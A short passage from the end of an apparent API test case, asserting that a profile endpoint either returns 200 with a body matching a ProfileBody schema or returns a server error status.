  expect(res.status === 200 ? ProfileBody.safeParse(body).success : res.status >= 500).toBe(true);
});
